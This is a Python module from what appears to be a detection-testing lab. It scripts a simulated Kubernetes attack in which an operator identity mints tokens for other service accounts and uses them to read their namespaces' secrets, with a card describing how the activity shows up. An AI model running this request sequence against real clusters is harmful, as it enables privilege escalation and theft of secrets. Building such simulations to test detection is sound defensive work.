"""Attack: tokens minted for other accounts.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="token-mint",
    title="Tokens minted for other accounts",
    technique=base.Technique(id="T1528", name="Steal Application Access Token", tactic="Credential Access"),
    use_case=vocabulary.UseCase.CREDENTIAL_MISUSE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Asks for long-lived tokens of other service accounts through an operator's token right and uses each "
        "of them once."
    ),
    seen_by=(
        "An identity asks for tokens of accounts it does not manage; the new credentials show up at once on the "
        "same address."
    ),
    cleans_up="The tokens expire by themselves; nothing is stored.",
    victim=base.Part.OPERATOR,
    reach=base.Reach.CLUSTER,
    catalogues=(
        "stratus:k8s.privilege-escalation.create-token",
        "Microsoft: Access container service account",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(
        base.Part.OPERATOR, able=("POST", paths.core("serviceaccounts", context.HOME, "default", "token"))
    )
    thief = ctx.act_as(victim, source_ip=ctx.pod_ip(), user_agent=context.CURL)
    targets = [*ctx.scene.identities(base.Part.APP), *ctx.scene.identities(base.Part.SECRET_SYNC)]
    accounts = [target for target in targets if target.username.startswith("system:serviceaccount:")]
    for account in ctx.rng.sample(accounts, min(3, len(accounts))):
        body = {
            "apiVersion": "authentication.k8s.io/v1",
            "kind": "TokenRequest",
            "spec": {"expirationSeconds": 86400},
        }
        answer = yield thief.create(paths.core("serviceaccounts", account.namespace, account.name, "token"), body)
        token = answer.at("status", "token")
        if token:
            fake = ctx.act_as(ctx.minted(account, token), source_ip=thief.manner.source_ip, user_agent=context.CURL)
            yield fake.get(paths.core("secrets", account.namespace))


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
